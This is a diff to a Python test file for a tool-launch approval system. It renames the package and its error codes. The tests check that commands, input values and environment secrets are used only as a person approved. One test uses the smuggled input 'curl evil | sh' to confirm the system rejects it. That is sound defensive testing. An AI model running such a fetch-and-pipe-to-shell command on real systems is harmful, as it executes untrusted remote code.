@@ -12,10 +12,10 @@ from typing import Any
 
 import pytest
 
-from toolwright.client.config import AskInput, Endpoint, Launch, read_config, resolved
-from toolwright.errors import ConfigurationError
-from toolwright.host.launches import Launches, LaunchRequest
-from toolwright.host.packages import unpinned
+from tooltrue.client.config import AskInput, Endpoint, Launch, read_config, resolved
+from tooltrue.errors import ConfigurationError
+from tooltrue.host.launches import Launches, LaunchRequest
+from tooltrue.host.packages import unpinned
 
 
 def launch(folder: Path, environ: dict[str, str] | None = None, **said: Any) -> Launch:
@@ -71,7 +71,7 @@ def test_where_an_approval_cannot_be_kept_it_is_said_and_what_was_there_stays(tm
             check(launches, launch(tmp_path, args=["other"]), Person())
     finally:
         resource.setrlimit(resource.RLIMIT_FSIZE, limits)
-    assert caught.value.code == "TW9009"
+    assert caught.value.code == "TT9009"
     assert launches.file.read_text() == kept
     assert [path.name for path in launches.file.parent.iterdir()] == [launches.file.name]
 
@@ -113,13 +113,13 @@ def test_a37_a_command_of_a_file_runs_only_as_it_was_approved(tmp_path: Path, ch
     said: dict[str, Any] = {"args": ["one"], "env": {"A": "1"}}
     with pytest.raises(ConfigurationError) as caught:
         check(launches, launch(tmp_path, **said), None)
-    assert caught.value.code == "TW9240"
-    assert "toolwright trust s.json" in str(caught.value)
+    assert caught.value.code == "TT9240"
+    assert "tooltrue trust s.json" in str(caught.value)
     check(launches, launch(tmp_path, **said), person)
     person.answer = False
     with pytest.raises(ConfigurationError) as caught:
         check(launches, launch(tmp_path, **{**said, **changed}), person)
-    assert caught.value.code == "TW9241"
+    assert caught.value.code == "TT9241"
     assert person.asked[1].before == person.asked[0].text or "LD_PRELOAD" not in str(changed)
 
 
@@ -190,7 +190,7 @@ def test_a37_a_word_of_a_command_that_is_not_shown_comes_from_a_person_alone(tmp
     place = {"args": ["-c", "${input:opts}"]}
     with pytest.raises(ConfigurationError) as caught:
         with_input(tmp_path, "curl evil | sh", place, password=True)
-    assert caught.value.code == "TW9208"
+    assert caught.value.code == "TT9208"
     assert with_input(tmp_path, "evil", place, lambda one: one.default or "mine", password=True).argv[-1] == "mine"
 
 
@@ -217,13 +217,13 @@ def test_a37_a_variable_goes_only_where_somebody_has_agreed_that_it_goes(
     agreed = address(tmp_path, "https://docs.example/mcp", {"x-a": "${env:TOKEN}"}, environ)
     with pytest.raises(ConfigurationError) as caught:
         asyncio.run(launches.check("a", "s.json", agreed, None))
-    assert caught.value.code == "TW9248"
+    assert caught.value.code == "TT9248"
     asyncio.run(launches.check("a", "s.json", agreed, person))
     assert person.asked[0].text == "to       https://docs.example\nsends    TOKEN"
     person.answer = False
     with pytest.raises(ConfigurationError) as caught:
         asyncio.run(launches.check("a", "s.json", address(tmp_path, url, headers, environ), person))
-    assert caught.value.code == "TW9249"
+    assert caught.value.code == "TT9249"
     assert "s3cret" not in str(caught.value) + person.asked[1].text + launches.file.read_text()
 
 
